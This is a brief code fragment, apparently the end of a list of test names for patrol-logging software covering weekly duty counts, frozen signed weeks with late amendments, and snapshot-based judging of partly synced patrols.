    the_weekly_record_counts_patrols_against_the_duty,
    a_signed_week_is_frozen_and_late_patrols_are_amendments,
    a_patrol_synced_in_parts_is_judged_whole_from_its_snapshot,
);
